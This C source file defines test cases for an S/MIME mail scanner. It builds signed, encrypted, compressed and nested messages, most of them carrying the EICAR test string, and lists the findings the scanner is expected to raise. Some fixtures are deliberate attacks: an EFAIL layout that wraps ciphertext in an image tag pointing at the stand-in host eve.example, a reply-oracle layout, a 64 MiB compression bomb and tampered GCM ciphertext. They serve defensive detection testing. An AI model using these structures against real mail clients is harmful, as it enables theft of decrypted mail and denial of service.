/* SPDX-License-Identifier: BSD-2-Clause */
/* What cannot be read as it stands: encrypted, compressed, wrapped. */
#include "case.h"

#define RSA_KEY "--keys @/pki/reader.p12 --password reader"
#define EC_KEY	"--keys @/pki/reader-ec.pem"

static struct as_span figures(void)
{
	return cs_text("The figures are fine.\r\n");
}

static struct as_span infected(void)
{
	return cs_multipart("mixed", 2, figures(), cs_eicar_entity());
}

static struct as_span sealed(struct as_span content, enum cs_cipher cipher,
			     enum cs_transport transport)
{
	const char *type = cipher >= CS_AES128_GCM ? "authEnveloped-data" : "enveloped-data";

	return cs_opaque_entity(type, cs_encrypt(content, cipher, transport));
}

static struct as_span mail_of(struct as_span content, enum cs_cipher cipher,
			      enum cs_transport transport)
{
	return cs_mail(cs_header(), sealed(content, cipher, transport));
}

static struct as_span aes_cbc(void)
{
	return mail_of(infected(), CS_AES256_CBC, CS_RSA);
}

static struct as_span aes128_cbc(void)
{
	return mail_of(infected(), CS_AES128_CBC, CS_RSA);
}

static struct as_span aes_gcm(void)
{
	return mail_of(infected(), CS_AES256_GCM, CS_RSA);
}

static struct as_span aes128_gcm(void)
{
	return mail_of(infected(), CS_AES128_GCM, CS_RSA);
}

static struct as_span triple_des(void)
{
	return mail_of(infected(), CS_3DES_CBC, CS_RSA);
}

static struct as_span oaep(void)
{
	return mail_of(infected(), CS_AES256_CBC, CS_OAEP);
}

static struct as_span ecdh(void)
{
	return mail_of(infected(), CS_AES256_CBC, CS_ECDH);
}

static struct as_span ecdh_gcm(void)
{
	return mail_of(infected(), CS_AES256_GCM, CS_ECDH);
}

static struct as_span password(void)
{
	return mail_of(figures(), CS_AES256_CBC, CS_PASSWORD);
}

static struct as_span damaged_gcm(void)
{
	struct as_span cms = cs_encrypt(figures(), CS_AES256_GCM, CS_RSA);

	return cs_mail(cs_header(),
		       cs_opaque_entity("authEnveloped-data", sm_flip(cms, cms.size - 25)));
}

static struct as_span opaque_signed(void)
{
	return cs_opaque(infected());
}

static struct as_span clear_signed(void)
{
	return cs_clear(infected());
}

static struct as_span compressed(void)
{
	return cs_mail(cs_header(), cs_opaque_entity("compressed-data", cs_compress(infected())));
}

static struct as_span signed_then_encrypted(void)
{
	struct as_span part = infected();

	return mail_of(cs_clear_entity(part, cs_sign(part, true)), CS_AES256_CBC, CS_RSA);
}

static struct as_span opaque_then_encrypted(void)
{
	return mail_of(cs_opaque_entity("signed-data", cs_sign(infected(), false)), CS_AES256_GCM,
		       CS_RSA);
}

static struct as_span encrypted_then_signed(void)
{
	struct as_span part = sealed(infected(), CS_AES256_CBC, CS_RSA);

	return cs_mail(cs_header(), cs_clear_entity(part, cs_sign(part, true)));
}

static struct as_span triple_wrapped(void)
{
	struct as_span inner = cs_opaque_entity("signed-data", cs_sign(infected(), false));
	struct as_span middle = sealed(inner, CS_AES256_CBC, CS_RSA);

	return cs_mail(cs_header(), cs_clear_entity(middle, cs_sign(middle, true)));
}

static struct as_span compressed_and_signed(void)
{
	struct as_span part = cs_opaque_entity("compressed-data", cs_compress(infected()));

	return cs_mail(cs_header(), cs_opaque_entity("signed-data", cs_sign(part, false)));
}

/* CMS within CMS, without MIME between. */
static struct as_span bare_in_bare(void)
{
	return cs_sign(cs_encrypt(infected(), CS_AES256_CBC, CS_RSA), false);
}

static struct as_span bare_signed_in_sealed(void)
{
	return cs_encrypt(cs_sign(infected(), false), CS_AES256_CBC, CS_RSA);
}

static struct as_span bare_in_text(void)
{
	return sm_base64(bare_signed_in_sealed());
}

static struct as_span part_encrypted(void)
{
	return cs_mail(cs_header(), cs_multipart("mixed", 2, cs_text("See the attachment.\r\n"),
						 sealed(figures(), CS_AES256_GCM, CS_RSA)));
}

/* EFAIL: what is decrypted would become a part of the address of an image. */
static struct as_span exfiltration(void)
{
	return cs_mail(cs_header(), cs_multipart("mixed", 3,
						 sm_text("Content-Type: text/html\r\n\r\n"
							 "<img src=\"http://eve.example/"),
						 sealed(figures(), CS_AES256_CBC, CS_RSA),
						 sm_text("Content-Type: text/html\r\n\r\n\">")));
}

/* A reply would quote the decrypted text far below. */
static struct as_span reply_oracle(void)
{
	char blank[4001];

	for (size_t i = 0; i + 2 < sizeof(blank); i += 2) {
		blank[i] = '\r';
		blank[i + 1] = '\n';
	}
	blank[sizeof(blank) - 1] = '\0';
	return cs_mail(cs_header(), cs_multipart("mixed", 2,
						 sm_join(2, cs_text("What time shall we meet?\r\n"),
							 sm_text(blank)),
						 sealed(figures(), CS_AES256_CBC, CS_RSA)));
}

/* 64 MiB of zeros in 64 KiB. */
static struct as_span bomb(void)
{
	static unsigned char zeros[(size_t)64 << 20];

	return cs_mail(cs_header(),
		       cs_opaque_entity("compressed-data",
					cs_compress(as_span_make(zeros, sizeof(zeros)))));
}

static const struct cs_case cases[] = {
	{.name = "opaque-signed",
	 .why = "EICAR in an opaque-signed mail",
	 .layers = "signed-opaque yes whole",
	 .quiet = true,
	 .eicar = true,
	 .openssl = CS_AGREES,
	 .build = opaque_signed},
	{.name = "clear-signed",
	 .why = "EICAR in a clear-signed mail",
	 .layers = "signed-clear yes whole",
	 .quiet = true,
	 .eicar = true,
	 .openssl = CS_AGREES,
	 .build = clear_signed},
	{.name = "compressed",
	 .why = "EICAR in a compressed mail",
	 .layers = "compressed null whole",
	 .quiet = true,
	 .eicar = true,
	 .build = compressed},
	{.name = "aes256-cbc",
	 .why = "AES-256-CBC, RSA",
	 .layers = "enveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted", "smime.unauthenticated_encryption"},
	 .never = {"smime.encrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = aes_cbc},
	{.name = "aes128-cbc",
	 .why = "AES-128-CBC, RSA",
	 .layers = "enveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = aes128_cbc},
	{.name = "aes256-gcm",
	 .why = "AES-256-GCM, RSA",
	 .layers = "authenveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted"},
	 .never = {"smime.unauthenticated_encryption"},
	 .quiet = true,
	 .eicar = true,
	 .build = aes_gcm},
	{.name = "aes128-gcm",
	 .why = "AES-128-GCM, RSA",
	 .layers = "authenveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = aes128_gcm},
	{.name = "3des",
	 .why = "triple DES, RSA",
	 .layers = "enveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted", "smime.weak_cipher"},
	 .eicar = true,
	 .build = triple_des},
	{.name = "oaep",
	 .why = "RSA-OAEP",
	 .layers = "enveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = oaep},
	{.name = "ecdh",
	 .why = "ECDH",
	 .layers = "enveloped null whole",
	 .options = EC_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = ecdh},
	{.name = "ecdh-gcm",
	 .why = "ECDH and AES-GCM",
	 .layers = "authenveloped null whole",
	 .options = EC_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = ecdh_gcm},
	{.name = "no-key",
	 .why = "encrypted, and no key",
	 .layers = "enveloped null whole",
	 .status = 2,
	 .findings = {"smime.encrypted"},
	 .never = {"smime.decrypted"},
	 .build = aes_cbc},
	{.name = "other-key",
	 .why = "encrypted for somebody else",
	 .layers = "enveloped null whole",
	 .status = 2,
	 .options = EC_KEY,
	 .findings = {"smime.encrypted"},
	 .never = {"smime.decrypted"},
	 .build = aes_cbc},
	{.name = "password",
	 .why = "encrypted for a password",
	 .layers = "enveloped null whole",
	 .status = 2,
	 .findings = {"smime.password_recipient", "smime.encrypted"},
	 .build = password},
	{.name = "damaged-gcm",
	 .why = "the ciphertext was changed",
	 .layers = "authenveloped null whole",
	 .status = 2,
	 .options = RSA_KEY,
	 .findings = {"smime.encrypted"},
	 .never = {"smime.decrypted"},
	 .build = damaged_gcm},
	{.name = "signed-then-encrypted",
	 .why = "a clear-signed mail, encrypted",
	 .layers = "enveloped null whole; signed-clear yes whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = signed_then_encrypted},
	{.name = "opaque-then-encrypted",
	 .why = "an opaque-signed mail, encrypted",
	 .layers = "authenveloped null whole; signed-opaque yes whole",
	 .options = RSA_KEY,
	 .findings = {"smime.decrypted"},
	 .quiet = true,
	 .eicar = true,
	 .build = opaque_then_encrypted},
	{.name = "encrypted-then-signed",
	 .why = "signed over ciphertext only",
	 .layers = "signed-clear yes whole; enveloped null whole",
	 .options = RSA_KEY,
	 .findings = {"smime.signed_outside_encryption"},
	 .quiet = true,
	 .eicar = true,
	 .build = encrypted_then_signed},
	{.name = "triple-wrapped",
	 .why = "signed, encrypted, signed",
	 .layers = "signed-clear yes whole; enveloped null whole; signed-opaque yes whole",
	 .options = RSA_KEY,
	 .never = {"smime.signed_outside_encryption"},
	 .quiet = true,
	 .eicar = true,
	 .build = triple_wrapped},
	{.name = "compressed-and-signed",
	 .why = "compressed, then signed",
	 .layers = "signed-opaque yes whole; compressed null whole",
	 .quiet = true,
	 .eicar = true,
	 .build = compressed_and_signed},
	{.name = "bare-in-bare",
	 .why = "CMS within CMS",
	 .layers = "signed-opaque yes whole; enveloped null whole",
	 .options = RSA_KEY,
	 .bare = true,
	 .eicar = true,
	 .build = bare_in_bare},
	{.name = "bare-signed-in-sealed",
	 .why = "CMS within ciphertext: a message inside must not make a message of it",
	 .layers = "enveloped null whole; signed-opaque yes whole",
	 .options = RSA_KEY,
	 .bare = true,
	 .eicar = true,
	 .build = bare_signed_in_sealed},
	{.name = "bare-in-text",
	 .why = "the same as base64",
	 .layers = "enveloped null whole; signed-opaque yes whole",
	 .options = RSA_KEY,
	 .bare = true,
	 .eicar = true,
	 .build = bare_in_text},
	{.name = "part-encrypted",
	 .why = "a text beside an encrypted part",
	 .layers = "authenveloped null part",
	 .options = RSA_KEY,
	 .findings = {"smime.partial_encryption"},
	 .never = {"smime.exfiltration_structure"},
	 .build = part_encrypted},
	{.name = "exfiltration",
	 .why = "EFAIL: an image that takes the text along",
	 .layers = "enveloped null part",
	 .status = 2,
	 .findings = {"smime.exfiltration_structure", "smime.partial_encryption"},
	 .build = exfiltration},
	{.name = "reply-oracle",
	 .why = "a secret far below a harmless question",
	 .layers = "enveloped null part",
	 .status = 2,
	 .findings = {"smime.partial_encryption"},
	 .build = reply_oracle},
	{.name = "bomb",
	 .why = "64 MiB of zeros, compressed",
	 .layers = "compressed null whole",
	 .status = 2,
	 .findings = {"smime.limit_exceeded"},
	 .build = bomb},
};

CS_GROUP(cs_closed, "closed", cases);
